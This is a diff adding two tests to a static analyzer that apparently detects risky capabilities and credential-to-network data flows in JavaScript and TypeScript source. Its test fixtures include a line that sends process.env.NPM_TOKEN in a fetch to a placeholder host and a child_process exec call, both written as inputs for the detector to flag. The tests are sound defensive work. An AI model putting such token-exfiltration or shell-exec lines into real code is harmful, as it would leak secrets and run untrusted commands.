@@ -253,3 +253,34 @@ test("a source that is larger than a tree may be is read as tokens, and that is 
   assert.ok(reading.hidings.some(({ kind }) => kind === "unparsed"));
   assert.ok(reading.sightings.some(({ capability }) => capability === "process"));
 });
+
+test("values that go round in circles are followed once: what every variable knows of every other costs no more than the file", () => {
+  // Each is made of all the others, so that there are more ways between two of them than could ever be gone.
+  const names = Array.from({ length: 60 }, (_, at) => `v${at}`);
+  const circle = `let ${names.join(", ")};\n${names.map((name) => `${name} = [${names.join(", ")}];`).join("\n")}\n`;
+  assert.deepEqual(flowing(`${circle}fetch("https://a.example/" + v0);`), []);
+  assert.deepEqual(flowing(`${circle}v59 = process.env.NPM_TOKEN;\nfetch("https://a.example/" + v0);`), ["credential-variable -> network"]);
+});
+
+test("a type in parentheses in front of an arrow is the result's, parameters in front of one are a function's type", () => {
+  for (const type of [
+    "((a: string) => number)",
+    "(A | B)",
+    "(A & { b: 1 })[]",
+    "(a: string) => void",
+    "() => void",
+    "(...a: A[]) => B",
+    "({ a }: A, b?: B) => c",
+  ]) {
+    const source = `const f = (x: string): ${type} => { require("child_process").exec(x); return y; };`;
+    const { because, sightings } = typescriptReading(source, new Lines(source));
+    // A function's type takes the arrow behind it for its own, unless it stands in parentheses: then nothing is left of the function.
+    if (type.startsWith("(A") || type.startsWith("((")) {
+      assert.equal(because, "", type);
+      assert.ok(
+        sightings.some(({ capability }) => capability === "process"),
+        type,
+      );
+    } else assert.equal(typescriptReading(`let f: ${type};`, new Lines("")).because, "", type);
+  }
+});
